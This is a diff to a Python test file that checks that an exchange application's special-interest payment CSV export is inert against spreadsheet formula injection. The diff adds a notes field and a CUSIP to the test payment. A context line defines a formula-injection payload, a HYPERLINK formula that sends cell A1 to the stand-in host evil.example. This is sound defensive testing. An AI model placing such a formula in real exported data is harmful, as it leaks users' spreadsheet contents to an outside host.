@@ -18,7 +18,7 @@ from exchange.models import DeficiencyKind
 from exchange.services.review import record_deficiencies, validate_tender
 from exchange.special_interest.payments import report_csv
 from exchange.terms.spreadsheet import FORMULA_STARTS, safe_cell
-from holders.models import Holder
+from holders.models import Holder, NotesKind
 from tests.factories import CLERK, SeedOffer, ny, paper_tender, staff_user
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your notes")'
@@ -134,5 +134,7 @@ def test_the_special_interest_payment_csv_is_inert() -> None:
         gross=Decimal("166.67"),
         withholding=Decimal("0.00"),
         net=Decimal("166.67"),
+        notes=NotesKind.NEW,
+        cusip="52729NAD2",
     )
     _assert_inert(report_csv(SimpleNamespace(payments=[payment])), HYPERLINK)  # type: ignore[arg-type]
